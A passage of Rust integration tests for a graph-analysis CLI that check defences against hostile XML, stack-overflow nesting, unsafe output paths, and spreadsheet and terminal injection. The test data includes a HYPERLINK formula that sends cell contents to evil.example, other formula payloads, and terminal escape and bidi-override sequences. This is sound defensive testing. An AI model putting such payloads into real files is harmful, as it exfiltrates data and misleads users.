            .timeout(std::time::Duration::from_secs(30))
            .assert()
            .code(2)
            .stderr(predicate::str::contains(format!("{name}.graphml:2:1")))
            .stderr(predicate::str::contains("DOCTYPE"))
            .stderr(predicate::str::contains("lol").not())
            .stderr(predicate::str::contains("root:").not());
        assert!(started.elapsed().as_secs() < 10, "{name}: slow");
        assert!(!out.exists(), "{name}: wrote a dataset");
        // Nor does `--data` read it as anything.
        coopgraph()
            .args(["summary", "--data", &input])
            .assert()
            .code(2);
    }
}

#[test]
fn deeply_nested_ftm_and_graphml_are_errors_not_stack_overflows() {
    let dir = tempfile::tempdir().unwrap();
    let deep = format!(
        "{{\"id\": \"x\", \"schema\": \"Organization\", \"properties\": {{\"name\": {}{}}}}}\n",
        "[".repeat(200_000),
        "]".repeat(200_000)
    );
    let ftm = write(dir.path(), "deep.ftm.json", deep.as_bytes());
    let xml = format!(
        "<graphml><graph>{}<node id=\"a\"/>{}</graph></graphml>",
        "<g>".repeat(200_000),
        "</g>".repeat(200_000)
    );
    let graphml = write(dir.path(), "deep.graphml", xml.as_bytes());
    for (from, input) in [("ftm", &ftm), ("graphml", &graphml)] {
        let out = dir.path().join(format!("{from}.json"));
        let assert = coopgraph()
            .args(["import", "--from", from])
            .arg(input)
            .arg("-o")
            .arg(&out)
            .assert();
        let code = assert.get_output().status.code();
        assert!(matches!(code, Some(0 | 2)), "{from}: exit {code:?}");
    }
    // The FtM line is reported at its place, and nothing is imported.
    coopgraph()
        .args(["import", "--from", "ftm"])
        .arg(&ftm)
        .arg("-o")
        .arg(dir.path().join("again.json"))
        .assert()
        .code(2)
        .stderr(predicate::str::contains("deep.ftm.json:1:"))
        .stderr(predicate::str::contains("recursion limit"));
}

// ==========================================================================
// Formerly tests/robustness.rs
//
// Regressions for inputs an independent review used to break the tool:
// long chains, absurd limits, arrays for objects, duplicate actors, names
// without letters, month offsets on year dates.

#[test]
fn a_path_along_a_long_chain_does_not_overflow_the_stack() {
    let dir = tempfile::tempdir().unwrap();
    let mut csv = String::from("source,target\n");
    for i in 0..20_000 {
        writeln!(csv, "n{i},n{}", i + 1).unwrap();
    }
    let p = write(&dir, "chain.csv", &csv);
    let out = coopgraph()
        .args([
            "path",
            "n0",
            "n20000",
            "--max-hops",
            "1000000",
            "--format",
            "json",
            "--data",
        ])
        .arg(&p)
        .assert()
        .success();
    let v: Value = serde_json::from_slice(&out.get_output().stdout).unwrap();
    assert_eq!(v["paths"][0]["length"], 20_000);
}

#[test]
fn all_paths_with_a_huge_hop_limit_finish_and_truncation_is_exact() {
    let dir = tempfile::tempdir().unwrap();
    // Exactly two paths from a to d: a-b-d and a-c-d.
    let p = write(&dir, "square.csv", "source,target\na,b\nb,d\na,c\nc,d\n");
    let run = |limit: &str| -> Value {
        let out = coopgraph()
            .args([
                "path",
                "a",
                "d",
                "--all",
                "--max-hops",
                "1000000000",
                "--limit",
                limit,
                "--format",
                "json",
                "--data",
            ])
            .arg(&p)
            .timeout(std::time::Duration::from_secs(20))
            .assert()
            .success();
        serde_json::from_slice(&out.get_output().stdout).unwrap()
    };
    let two = run("2");
    assert_eq!(two["paths"].as_array().unwrap().len(), 2);
    assert_eq!(two["truncated"], false);
    let one = run("1");
    assert_eq!(one["paths"].as_array().unwrap().len(), 1);
    assert_eq!(one["truncated"], true);
}

#[test]
fn arrays_are_not_datasets() {
    let dir = tempfile::tempdir().unwrap();
    for text in ["[]", "[null,[],[],[]]", "null"] {
        let p = write(&dir, "a.json", text);
        coopgraph()
            .arg("validate")
            .arg("--data")
            .arg(&p)
            .assert()
            .code(2)
            .stdout(predicate::str::contains("must be a JSON object"));
    }
    let p = write(&dir, "b.json", r#"{"nodes": [["x", "state", "X"]]}"#);
    coopgraph()
        .arg("validate")
        .arg("--data")
        .arg(&p)
        .assert()
        .code(2)
        .stdout(predicate::str::contains("expected a JSON object"));
}

#[test]
fn shared_refuses_repeated_or_nested_actors() {
    coopgraph()
        .args(["shared", "Sweden", "Serbia", "Sverige"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("only once"));
    coopgraph()
        .args(["shared", "Sweden", "Migrationsverket"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "Swedish Migration Agency is part of Sweden",
        ));
}

#[test]
fn overlap_pairs_actors_only() {
    coopgraph()
        .args(["overlap", "--kind", "project"])
        .assert()
        .code(2);
    coopgraph()
        .args(["overlap", "--kind", "state", "--top", "0"])
        .assert()
        .code(2);
}

#[test]
fn names_need_letters_and_year_dates_whole_years() {
    let dir = tempfile::tempdir().unwrap();
    let p = write(
        &dir,
        "d.json",
        r#"{"sources": [{"id": "s", "kind": "page", "title": "t"}],
            "nodes": [{"id": "x", "kind": "network", "name": "!!!", "start": "2020 - 1 month", "sources": [{"source": "s"}]}]}"#,
    );
    coopgraph()
        .arg("validate")
        .arg("--data")
        .arg(&p)
        .assert()
        .code(2)
        .stdout(predicate::str::contains("error[empty-name]"))
        .stdout(predicate::str::contains("shift it by whole years"));
}

#[test]
fn derived_dates_keep_their_written_form_in_answers() {
    let out = coopgraph()
        .args([
            "timeline",
            "Turkey",
            "--as-of",
            "2026-01-01",
            "--format",
            "json",
        ])
        .assert()
        .success();
    let v: Value = serde_json::from_slice(&out.get_output().stdout).unwrap();
    let bilateral = v["entries"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["item"]["id"] == "turkey-bilateral-project")
        .unwrap();
    assert_eq!(bilateral["start"]["text"], "2016-03 - 18 months");
    assert_eq!(bilateral["start"]["value"], "2014-09");
}

mod outputs {
    //! Safe writing of output files (`-o`): only regular files are replaced,
    //! and only with `--force`, keeping their permissions; links, devices and
    //! FIFOs are never replaced (devices and FIFOs are written through); `-o -`
    //! is stdout; sets of files (report, CSV and Neo4j folders) are checked and
    //! written whole; no output lands on an input however it is named; and no
    //! temporary file outlives a signal or a killed writer. (Issue 14: Security
    //! 1, Outputs and files 4–9 and 11.)
    #![cfg(unix)]

    use crate::support::{coopgraph, write};
    use predicates::prelude::*;
    use std::os::unix::fs::{FileTypeExt, MetadataExt, PermissionsExt};
    use std::path::{Path, PathBuf};
    use std::time::{Duration, Instant, SystemTime};

    const OLD: &str = "old contents\n";

    /// `generate` with a small dataset, then `args`.
    fn generate(args: &[&str]) -> assert_cmd::Command {
        let mut c = coopgraph();
        c.args(["generate", "--orgs", "10", "--projects", "5"])
            .args(args);
        c
    }

    /// The names in `dir`, sorted.
    fn names(dir: &Path) -> Vec<String> {
        let mut v: Vec<String> = std::fs::read_dir(dir)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        v.sort();
        v
    }

    /// Temporary files of coopgraph's in `dir`.
    fn temporaries(dir: &Path) -> Vec<String> {
        names(dir)
            .into_iter()
            .filter(|n| n.starts_with(".coopgraph-"))
            .collect()
    }

    fn is_symlink(p: &Path) -> bool {
        std::fs::symlink_metadata(p).is_ok_and(|m| m.file_type().is_symlink())
    }

    /// A small CSV edge list that `--data` and `import` read.
    fn edge_list(dir: &Path, name: &str) -> PathBuf {
        write(
            dir,
            name,
            "source,target,relation\nAgency A,Network N,member\nAgency B,Network N,member\n",
        )
    }

    /// The id of a process that has ended.
    fn dead_pid() -> u32 {
        let mut child = std::process::Command::new("true").spawn().unwrap();
        let pid = child.id();
        child.wait().unwrap();
        pid
    }

    // ------------------------------------------------- links, devices, FIFOs (1)

    #[test]
    fn a_symbolic_link_is_never_replaced_even_with_force() {
        let dir = tempfile::tempdir().unwrap();
        let target = write(&dir, "target.json", OLD);
        let link = dir.path().join("link.json");
        std::os::unix::fs::symlink(&target, &link).unwrap();
        for force in [false, true] {
            let mut c = generate(&["-o"]);
            c.arg(&link);
            if force {
                c.arg("--force");
            }
            c.assert()
                .failure()
                .stderr(predicate::str::contains("is a symbolic link"))
                .stderr(predicate::str::contains("--force").not());
            assert!(is_symlink(&link), "the link was replaced (force: {force})");
            assert_eq!(std::fs::read_to_string(&target).unwrap(), OLD);
        }
        assert_eq!(names(dir.path()), ["link.json", "target.json"]);
    }

    #[test]
    fn a_fifo_is_written_through_and_stays_a_fifo() {
        let dir = tempfile::tempdir().unwrap();
        let fifo = dir.path().join("pipe");
        let made = std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap();
        assert!(made.success());
        // A reader on the other end, as `coopgraph … -o pipe` would have,
        // copying into a file outside the folder.
        let copy_dir = tempfile::tempdir().unwrap();
        let copy = copy_dir.path().join("copy.json");
        let mut reader = std::process::Command::new("cat")
            .arg(&fifo)
            .stdout(std::fs::File::create(&copy).unwrap())
            .spawn()
            .unwrap();
        let run = coopgraph()
            .args(["--quiet", "export", "json", "-o"])
            .arg(&fifo)
            .timeout(Duration::from_secs(60))
            .output()
            .unwrap();
        if !run.status.success() {
            reader.kill().unwrap();
        }
        reader.wait().unwrap();
        assert!(
            run.status.success(),
            "{}",
            String::from_utf8_lossy(&run.stderr)
        );
        let v: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&copy).unwrap()).unwrap();
        assert!(v["nodes"].as_array().is_some_and(|n| !n.is_empty()));
        let t = std::fs::symlink_metadata(&fifo).unwrap().file_type();
        assert!(t.is_fifo(), "the FIFO was replaced");
        assert_eq!(names(dir.path()), ["pipe"]);
    }

    #[test]
    fn dev_null_is_written_through_and_stays_a_character_device() {
        // Without --force first: before the fix, `--force` replaced the device
        // (as root), so this order fails safely on an unfixed build.
        coopgraph()
            .args(["--quiet", "export", "json", "-o", "/dev/null"])
            .assert()
            .success();
        coopgraph()
            .args(["--quiet", "export", "graphml", "-o", "/dev/null", "--force"])
            .assert()
            .success();
        let t = std::fs::symlink_metadata("/dev/null").unwrap().file_type();
        assert!(t.is_char_device(), "/dev/null is no longer a device");
    }

    #[test]
    fn a_socket_is_refused_without_a_hint_to_force() {
        let dir = tempfile::tempdir().unwrap();
        let sock = dir.path().join("sock");
        let _listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
        for force in [false, true] {
            let mut c = generate(&["-o"]);
            c.arg(&sock);
            if force {
                c.arg("--force");
            }
            c.assert()
                .code(1)
                .stderr(predicate::str::contains("it is a socket, not a file"))
                .stderr(predicate::str::contains("--force").not());
            let t = std::fs::symlink_metadata(&sock).unwrap().file_type();
            assert!(t.is_socket(), "the socket was replaced (force: {force})");
        }
    }

    // --------------------------------------------------------------- -o - (1)

    #[test]
    fn dash_is_stdout_for_every_single_file_output() {
        let dir = tempfile::tempdir().unwrap();
        edge_list(dir.path(), "in.csv");
        let run = |args: &[&str]| -> String {
            let out = coopgraph()
                .current_dir(dir.path())
                .arg("--quiet")
                .args(args)
                .assert()
                .success();
            String::from_utf8(out.get_output().stdout.clone()).unwrap()
        };
        for args in [
            &["render", "--engine", "builtin", "-o", "-"][..],
            &["timeline", "Swedish Migration Agency", "-o", "-"],
            &["heatmap", "-o", "-"],
        ] {
            let svg = run(args);
            assert!(
                svg.contains("<svg") && svg.trim_end().ends_with("</svg>"),
                "{args:?}: {svg:.200}"
            );
        }
        for args in [
            &["export", "json", "-o", "-"][..],
            &["generate", "--orgs", "10", "--projects", "5", "-o", "-"],
            &["import", "in.csv", "-o", "-"],
        ] {
            let text = run(args);
            let v: Result<serde_json::Value, _> = serde_json::from_str(&text);
            assert!(v.is_ok(), "{args:?}: {text:.200}");
        }
        let graphml = run(&["export", "graphml", "-o", "-"]);
        assert!(graphml.contains("<graphml"));
        assert_eq!(names(dir.path()), ["in.csv"], "a file named - was written");
    }

    #[test]
    fn folder_outputs_refuse_dash_with_a_clear_message() {
        let dir = tempfile::tempdir().unwrap();
        for args in [
            &["report", "--engine", "builtin", "-o", "-"][..],
            &["export", "csv", "-o", "-"],
            &["export", "neo4j", "-o", "-"],
        ] {
            coopgraph()
                .current_dir(dir.path())
                .args(args)
                .assert()
                .code(2)
                .stderr(predicate::str::contains(
                    "writes a folder of files, which cannot go to stdout",
                ));
        }
        assert!(names(dir.path()).is_empty(), "a folder named - was made");
    }

    // ------------------------------------------------------- sets of files (4, 5)

    #[test]
    fn an_export_folder_that_cannot_be_written_whole_keeps_every_old_file() {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("out");
        std::fs::create_dir(&out).unwrap();
        write(&out, "sources.csv", OLD);
        write(&out, "nodes.csv", OLD);
        // The last file of the set cannot be written: a folder is in its place.
        std::fs::create_dir(out.join("edges.csv")).unwrap();
        coopgraph()
            .args(["export", "csv", "--force", "-o"])
            .arg(&out)
            .assert()
            .code(1)
            .stderr(predicate::str::contains("edges.csv"))
            .stderr(predicate::str::contains("it is a folder, not a file"));
        for f in ["sources.csv", "nodes.csv"] {
            assert_eq!(std::fs::read_to_string(out.join(f)).unwrap(), OLD, "{f}");
        }
        assert_eq!(names(&out), ["edges.csv", "nodes.csv", "sources.csv"]);
    }

    #[test]
    fn a_report_that_cannot_be_written_whole_keeps_every_old_file() {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("report");
        std::fs::create_dir(&out).unwrap();
        write(&out, "index.html", OLD);
        std::fs::create_dir(out.join("report.md")).unwrap();
        coopgraph()
            .args(["report", "--engine", "builtin", "-o"])
            .arg(&out)
            .assert()
            .code(1)
            .stderr(predicate::str::contains("report.md"));
        assert_eq!(
            std::fs::read_to_string(out.join("index.html")).unwrap(),
            OLD
        );
        assert_eq!(names(&out), ["index.html", "report.md"]);
    }

    #[test]
    fn a_set_whose_staging_fails_replaces_nothing_and_leaves_no_temporary_file() {
        let dir = tempfile::tempdir().unwrap();
        let first = write(&dir, "first.csv", OLD);
        // The second file's folder cannot be made: a file has its name.
        write(&dir, "blocked", OLD);
        let set = [
            (first.clone(), &b"new"[..]),
            (dir.path().join("blocked").join("second.csv"), &b"new"[..]),
        ];
        let err = coopgraph::write::atomic_set(&set, true).unwrap_err();
        assert_eq!(err.exit_code(), 1);
        assert!(err.to_string().contains("blocked"), "{err}");
        assert_eq!(std::fs::read_to_string(&first).unwrap(), OLD);
        assert_eq!(names(dir.path()), ["blocked", "first.csv"]);
    }

    #[test]
    fn a_set_whose_renames_fail_midway_puts_back_what_it_had_replaced() {
        let dir = tempfile::tempdir().unwrap();
        let first = write(&dir, "first.csv", OLD);
        let fresh = dir.path().join("fresh.csv");
        // A name too long for the file system: checked and staged (the
        // temporary file has a short name), the rename fails.
        let long = dir.path().join("x".repeat(300));
        let set = [
            (first.clone(), &b"new"[..]),
            (fresh.clone(), &b"new"[..]),
            (long, &b"new"[..]),
        ];
        let err = coopgraph::write::atomic_set(&set, true).unwrap_err();
        assert!(matches!(err, coopgraph::Error::Write { .. }), "{err}");
        assert!(err.to_string().contains("nothing was replaced"), "{err}");
        assert_eq!(std::fs::read_to_string(&first).unwrap(), OLD);
        assert!(!fresh.exists(), "a new file of a failed set was left");
        assert_eq!(names(dir.path()), ["first.csv"]);
    }

    #[test]
    fn an_export_folder_is_checked_whole_against_the_inputs_before_any_write() {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("out");
        std::fs::create_dir(&out).unwrap();
        write(&out, "sources.csv", OLD);
        write(&out, "nodes.csv", OLD);
        // The set's last file is the --data input.
        let input = edge_list(&out, "edges.csv");
        let before = std::fs::read_to_string(&input).unwrap();
        coopgraph()
            .args(["export", "csv", "--force", "--data"])
            .arg(&input)
            .arg("-o")
            .arg(&out)
            .assert()
            .code(2)
            .stderr(predicate::str::contains("never writes to its inputs"));
        for f in ["sources.csv", "nodes.csv"] {
            assert_eq!(std::fs::read_to_string(out.join(f)).unwrap(), OLD, "{f}");
        }
        assert_eq!(std::fs::read_to_string(&input).unwrap(), before);
    }

    // ------------------------------------------------------------ inputs (6)

    #[test]
    fn a_new_folder_inside_a_data_folder_is_an_input_too() {
        let dir = tempfile::tempdir().unwrap();
        let data = dir.path().join("data");
        std::fs::create_dir(&data).unwrap();
        // The repository's dataset, which the default report spec fits.
        let repo_data = Path::new(env!("CARGO_MANIFEST_DIR")).join("data");
        for f in [
            "crime.json",
            "development.json",
            "international.json",
            "sources.json",
        ] {
            std::fs::copy(repo_data.join(f), data.join(f)).unwrap();
        }
        coopgraph()
            .args(["report", "--engine", "builtin", "--data"])
            .arg(&data)
            .arg("-o")
            .arg(data.join("new").join("sub"))
            .assert()
            .code(2)
            .stderr(predicate::str::contains("never writes to its inputs"));
        generate(&["--data"])
            .arg(&data)
            .arg("-o")
            .arg(data.join("new").join("..").join("other").join("x.json"))
            .assert()
            .code(2)
            .stderr(predicate::str::contains("never writes to its inputs"));
        assert_eq!(
            names(&data),
            [
                "crime.json",
                "development.json",
                "international.json",
                "sources.json"
            ]
        );
    }

    #[test]
    fn a_hard_link_to_an_input_is_the_input() {
        let dir = tempfile::tempdir().unwrap();
        let input = edge_list(dir.path(), "edges.csv");
        let other = dir.path().join("elsewhere");
        std::fs::create_dir(&other).unwrap();
        let alias = other.join("alias.json");
        std::fs::hard_link(&input, &alias).unwrap();
        let ino = std::fs::metadata(&input).unwrap().ino();
        generate(&["--force", "--data"])
            .arg(&input)
            .arg("-o")
            .arg(&alias)
            .assert()
            .code(2)
            .stderr(predicate::str::contains("never writes to its inputs"));
        assert_eq!(std::fs::metadata(&alias).unwrap().ino(), ino);
    }

    #[test]
    fn import_never_writes_over_its_own_input() {
        let dir = tempfile::tempdir().unwrap();
        let input = edge_list(dir.path(), "in.csv");
        let before = std::fs::read_to_string(&input).unwrap();
        coopgraph()
            .arg("import")
            .arg(&input)
            .arg("-o")
            .arg(&input)
            .arg("--force")
            .assert()
            .code(2)
            .stderr(predicate::str::contains("never writes to its inputs"));
        assert_eq!(std::fs::read_to_string(&input).unwrap(), before);
    }

    // ------------------------------------------------------ temporary files (7)

    /// Starts a long `generate --force -o big.json` in `dir`, waits until its
    /// temporary file has data, and sends it `signal`.
    fn interrupt_while_writing(dir: &Path, signal: &str) {
        let p = dir.join("big.json");
        std::fs::write(&p, OLD).unwrap();
        let mut child = super::start_long_write(&p);
        let start = Instant::now();
        let writing = loop {
            let started = temporaries(dir)
                .iter()
                .any(|n| std::fs::metadata(dir.join(n)).is_ok_and(|m| m.len() > 0));
            if started || start.elapsed() > Duration::from_secs(60) {
                break started;
            }
            if child.try_wait().unwrap().is_some() {
                break false;
            }
            std::thread::sleep(Duration::from_millis(2));
        };
        let sent = std::process::Command::new("kill")
            .args([signal, &child.id().to_string()])
            .status()
            .unwrap();
        let status = child.wait().unwrap();
        assert!(writing, "never saw the output being written");
        assert!(sent.success());
        assert!(!status.success(), "{signal} did not stop the command");
        assert_eq!(std::fs::read_to_string(&p).unwrap(), OLD);
        assert_eq!(temporaries(dir), Vec::<String>::new(), "after {signal}");
    }

    #[test]
    fn sigterm_while_writing_leaves_no_temporary_file() {
        let dir = tempfile::tempdir().unwrap();
        interrupt_while_writing(dir.path(), "-TERM");
    }

    #[test]
    fn ctrl_c_while_writing_leaves_no_temporary_file() {
        let dir = tempfile::tempdir().unwrap();
        interrupt_while_writing(dir.path(), "-INT");
    }

    #[test]
    fn stale_temporary_files_of_ended_writers_are_removed_and_no_others() {
        let dir = tempfile::tempdir().unwrap();
        let hour_ago = SystemTime::now() - Duration::from_secs(3600);
        let age = |name: &str, when: SystemTime| {
            let p = write(&dir, name, OLD);
            let f = std::fs::File::options().write(true).open(&p).unwrap();
            f.set_modified(when).unwrap();
        };
        let dead = dead_pid();
        let alive = std::process::id();
        age(&format!(".coopgraph-{dead}-aB3xYz.tmp"), hour_ago); // stale: removed
        age(&format!(".coopgraph-{alive}-aB3xYz.tmp"), hour_ago); // writer alive
        age(&format!(".coopgraph-{dead}-Qw7eRt.tmp"), SystemTime::now()); // fresh
        age(".coopgraph-notes.tmp", hour_ago); // not a name coopgraph gives
        age("mine.tmp", hour_ago);
        generate(&["-o"])
            .arg(dir.path().join("out.json"))
            .assert()
            .success();
        let mut kept = vec![
            format!(".coopgraph-{alive}-aB3xYz.tmp"),
            format!(".coopgraph-{dead}-Qw7eRt.tmp"),
            ".coopgraph-notes.tmp".to_string(),
            "mine.tmp".to_string(),
            "out.json".to_string(),
        ];
        kept.sort();
        assert_eq!(names(dir.path()), kept);
    }

    // ------------------------------------------------------------ --force (8, 9)

    #[test]
    fn force_keeps_the_permissions_of_the_replaced_file() {
        let dir = tempfile::tempdir().unwrap();
        let p = write(&dir, "private.json", OLD);
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o600)).unwrap();
        generate(&["--force", "-o"]).arg(&p).assert().success();
        assert_ne!(std::fs::read_to_string(&p).unwrap(), OLD);
        let mode = std::fs::metadata(&p).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "mode {mode:o}");
        // In a set too.
        let out = dir.path().join("out");
        std::fs::create_dir(&out).unwrap();
        let nodes = write(&out, "nodes.csv", OLD);
        std::fs::set_permissions(&nodes, std::fs::Permissions::from_mode(0o640)).unwrap();
        coopgraph()
            .args(["export", "csv", "--force", "-o"])
            .arg(&out)
            .assert()
            .success();
        let mode = std::fs::metadata(&nodes).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o640, "mode {mode:o}");
    }

    #[test]
    fn a_dangling_symbolic_link_exists() {
        let dir = tempfile::tempdir().unwrap();
        let link = dir.path().join("out.json");
        std::os::unix::fs::symlink(dir.path().join("nowhere.json"), &link).unwrap();
        generate(&["-o"])
            .arg(&link)
            .assert()
            .failure()
            .stderr(predicate::str::contains("is a symbolic link"));
        assert!(is_symlink(&link), "the dangling link was replaced");
        assert_eq!(names(dir.path()), ["out.json"]);
    }

    #[test]
    fn a_file_that_appears_while_writing_is_not_replaced_without_force() {
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("out.json");
        // Another program creates the file after the check, before the rename.
        let err = coopgraph::write::atomic(&p, false, |w| {
            std::fs::write(&p, OLD)?;
            w.write_all(b"new")
        })
        .unwrap_err();
        assert!(
            matches!(&err, coopgraph::Error::Exists { path } if *path == p),
            "{err}"
        );
        assert_eq!(std::fs::read_to_string(&p).unwrap(), OLD);
        assert_eq!(names(dir.path()), ["out.json"]);
    }

    // ------------------------------------------------------------ report (11)

    #[test]
    fn report_onto_a_file_says_it_is_a_file_not_a_folder() {
        let dir = tempfile::tempdir().unwrap();
        let p = write(&dir, "report", OLD);
        coopgraph()
            .args(["report", "--engine", "builtin", "-o"])
            .arg(&p)
            .assert()
            .code(1)
            .stderr(predicate::str::contains("it is a file, not a folder"))
            .stderr(predicate::str::contains("os error").not());
        assert_eq!(std::fs::read_to_string(&p).unwrap(), OLD);
    }
}

mod injection {
    //! Injection into spreadsheets and terminals (issue 14, security items 2
    //! and 3): CSV cells that a spreadsheet would run as formulas are
    //! neutralised in `metrics`/`communities --format csv` and the report's
    //! tables (and in `export csv` only with `--spreadsheet-safe`), and names
    //! holding escape sequences, C1 controls or bidirectional overrides never
    //! reach a terminal raw: not in CSV or JSON on a terminal (tested through a
    //! real pseudo-terminal made by util-linux `script`), not in the "wrote
    //! PATH" lines, not in `report.md`.

    use crate::support::coopgraph;
    use std::path::{Path, PathBuf};

    /// (node id, name): names a spreadsheet would run as a formula, and names
    /// that would act on a terminal.
    const NAMES: &[(&str, &str)] = &[
        ("formula", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
        ("plus", "+SUM(A1:A9)"),
        ("minus", "-2+A3 minus"),
        ("at", "@cmd at"),
        ("tab", "\t=tab"),
        ("cr", "\r=cr"),
        ("esc", "Esc \u{1b}]0;owned\u{7} \u{1b}[2J bell"),
        ("c1", "C1 \u{9b}2J csi \u{85}nel"),
        ("bidi", "Bidi \u{202e}evil \u{2066}isolate"),
    ];

    /// The first characters that make a spreadsheet read a cell as a formula
    /// (OWASP's list).
    const FORMULA_START: &[char] = &['=', '+', '-', '@', '\t', '\r'];

    /// Characters that must never reach a terminal raw: controls other than the
    /// line break, and bidirectional formatting characters.
    fn unsafe_char(c: char) -> bool {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    }

    /// A dataset of one state and one agency per name of [`NAMES`], each part
    /// of the state.
    fn dataset(dir: &Path) -> PathBuf {
        let mut nodes = vec![serde_json::json!({
            "id": "sweden", "kind": "state", "name": "Sweden",
            "sources": [{"source": "page"}]
        })];
        let mut relations = Vec::new();
        for (id, name) in NAMES {
            nodes.push(serde_json::json!({
                "id": id, "kind": "agency", "name": name,
                "sources": [{"source": "page"}]
            }));
            relations.push(serde_json::json!({
                "kind": "part_of", "from": id, "to": "sweden", "role": name,
                "sources": [{"source": "page"}]
            }));
        }
        let data = serde_json::json!({
            "sources": [{"id": "page", "kind": "page", "title": NAMES[0].1, "lang": "en"}],
            "nodes": nodes,
            "relations": relations,
        });
        crate::support::write(dir, "hostile.json", data.to_string())
    }

    /// Whether a cell is a number as a spreadsheet reads it.
    fn numeric(cell: &str) -> bool {
        cell.parse::<f64>().is_ok_and(f64::is_finite)
    }

    /// Checks that no cell of `csv` starts a formula, that every name of
    /// `names` that would is in `name_column` with a leading `'`, and returns
    /// the records.
    fn assert_neutralised(
        csv: &[u8],
        name_column: &str,
        names: &[(&str, &str)],
        what: &str,
    ) -> Vec<csv::StringRecord> {
        let mut r = csv::Reader::from_reader(csv);
        let header = r.headers().unwrap().clone();
        let col = header.iter().position(|h| h == name_column).unwrap();
        let records: Vec<_> = r.records().map(Result::unwrap).collect();
        for rec in &records {
            for cell in rec {
                assert!(
                    !cell.starts_with(FORMULA_START) || numeric(cell),
                    "{what}: a cell a spreadsheet runs as a formula: {cell:?}"
                );
            }
        }
        let shown: Vec<&str> = records.iter().map(|r| &r[col]).collect();
        for (_, name) in names.iter().filter(|(_, n)| n.starts_with(FORMULA_START)) {
            let safe = format!("'{name}");
            assert!(
                shown.contains(&safe.as_str()),
                "{what}: no {safe:?} in {shown:?}"
            );
        }
        records
    }

    fn stdout(args: &[&str], data: &Path) -> Vec<u8> {
        let out = coopgraph()
            .arg("--data")
            .arg(data)
            .args(args)
            .assert()
            .success();
        out.get_output().stdout.clone()
    }

    #[test]
    fn metrics_and_communities_csv_neutralise_formulas_and_keep_numbers_numeric() {
        let dir = tempfile::tempdir().unwrap();
        let data = dataset(dir.path());
        let metrics = stdout(&["metrics", "--format", "csv"], &data);
        let records = assert_neutralised(&metrics, "name", NAMES, "metrics --format csv");
        // The metric values stay numbers (columns after id, name, kind).
        for rec in &records {
            for cell in rec.iter().skip(3) {
                assert!(numeric(cell), "metrics: a value is not a number: {cell:?}");
            }
        }
        let communities = stdout(&["communities", "--format", "csv"], &data);
        let records = assert_neutralised(&communities, "name", NAMES, "communities --format csv");
        assert!(records.iter().all(|r| r[3].parse::<u64>().is_ok()));
    }

    /// Runs `report --spec SPEC` on `data` into `dir/report`; returns it.
    fn report_with(dir: &Path, data: &Path, spec: &Path) -> std::path::PathBuf {
        let out = dir.join("report");
        coopgraph()
            .arg("--quiet")
            .arg("--data")
            .arg(data)
            .arg("report")
            .arg("--spec")
            .arg(spec)
            .arg("-o")
            .arg(&out)
            .assert()
            .success();
        out
    }

    #[test]
    fn the_report_tables_neutralise_formulas() {
        let dir = tempfile::tempdir().unwrap();
        let data = dataset(dir.path());
        let spec = crate::support::write(
            dir.path(),
            "spec.toml",
            "title = \"T\"\n[[table]]\nid = \"metrics\"\nmetrics = [\"degree\", \"pagerank\"]\n",
        );
        let out = report_with(dir.path(), &data, &spec);
        let csv = std::fs::read(out.join("tables/metrics.csv")).unwrap();
        let records = assert_neutralised(&csv, "name", NAMES, "report tables/metrics.csv");
        for rec in &records {
            for cell in rec.iter().skip(3) {
                assert!(numeric(cell), "report table: not a number: {cell:?}");
            }
        }
    }

    fn export_csv(data: &Path, out: &Path, extra: &[&str]) -> Vec<csv::StringRecord> {
        coopgraph()
            .arg("--quiet")
            .arg("--data")
            .arg(data)
            .args(["export", "csv", "-o"])
            .arg(out)
            .args(extra)
            .assert()
            .success();
        let mut r = csv::Reader::from_path(out.join("nodes.csv")).unwrap();
        r.records().map(Result::unwrap).collect()
    }

    #[test]
    fn export_csv_stays_raw_and_is_neutralised_with_spreadsheet_safe() {
        let dir = tempfile::tempdir().unwrap();
        let data = dataset(dir.path());
        // Raw by default: the names exactly, for round trips.
        let raw = export_csv(&data, &dir.path().join("raw"), &[]);
        let labels: Vec<&str> = raw.iter().map(|r| &r[1]).collect();
        for (_, name) in NAMES {
            assert!(labels.contains(name), "export csv changed {name:?}");
        }
        // With --spreadsheet-safe, every file of the folder is neutralised.
        let safe = dir.path().join("safe");
        export_csv(&data, &safe, &["--spreadsheet-safe"]);
        assert_neutralised(
            &std::fs::read(safe.join("nodes.csv")).unwrap(),
            "Label",
            NAMES,
            "export csv --spreadsheet-safe",
        );
        // Relation roles and source titles are text cells too.
        for (f, column, names) in [
            ("edges.csv", "role", NAMES),
            ("sources.csv", "title", &NAMES[..1]),
        ] {
            assert_neutralised(&std::fs::read(safe.join(f)).unwrap(), column, names, f);
        }
    }

    #[test]
    fn spreadsheet_safe_is_refused_for_formats_it_does_not_apply_to() {
        let dir = tempfile::tempdir().unwrap();
        coopgraph()
            .args(["export", "graphml", "--spreadsheet-safe", "-o"])
            .arg(dir.path().join("x.graphml"))
            .assert()
            .code(2)
            .stderr(predicates::str::contains(
                "--spreadsheet-safe is for `export csv`",
            ));
    }

    /// Quotes a word for `sh`.
    fn sh_quote(s: &str) -> String {
        format!("'{}'", s.replace('\'', "'\\''"))
    }

    /// Whether util-linux `script` can give a command a terminal here: it may
    /// be absent (or the BSD `script`, with other options), or the system may
    /// have no pseudo-terminals.
    fn can_make_a_terminal() -> bool {
        let probe = std::process::Command::new("script")
            .args(["-qec", "test -t 1", "/dev/null"])
            .stdin(std::process::Stdio::null())
            .output();
